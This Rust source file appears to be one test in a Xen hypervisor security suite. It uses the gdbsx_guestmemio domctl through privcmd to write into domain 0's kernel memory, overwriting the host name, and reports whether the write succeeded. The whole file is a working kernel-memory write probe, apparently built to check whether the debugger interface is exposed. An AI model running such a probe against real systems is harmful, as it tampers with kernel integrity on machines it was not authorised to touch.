//! The debugger's door to a domain's memory, used on the kernel that one runs on.

use super::{Attack, Level};
use crate::layout::GdbsxMemio;
use crate::outcome::{Outcome, absent_or_held, breached};
use crate::witness::{HostName, version_works};
use crate::xen::{Buffer, Privcmd};

pub(super) const ATTACK: Attack = Attack {
    id: "gdbsx-memory",
    rule: "B3",
    level: Level::Integrity,
    summary: "domctl(gdbsx_guestmemio) on domain 0 writes to an address of its kernel",
    needs: "privcmd; a Xen that was built with gdbsx",
    observed: "the kernel's host name changes without a system call",
    healthy: true,
    timeout_s: super::USUAL_S,
    run,
    twin: || version_works(&Privcmd::open()?),
};

fn run() -> Outcome {
    const GUESTMEMIO: u32 = 1000;
    let privcmd = Privcmd::open()?;
    let name = HostName::marked()?;
    let text = Buffer::with(b"written-by-a-debugger\0")?;
    let request = GdbsxMemio {
        page_directory: 0,
        guest: name.address,
        user: text.address(),
        length: 22,
        write: 1,
        padding: [0; 3],
        left: 0,
        end: 0,
    };
    let answer = privcmd.domctl(GUESTMEMIO, 0, &request);
    if name.changed()? { breached(name.told()?) } else { absent_or_held("gdbsx_guestmemio", answer) }
}
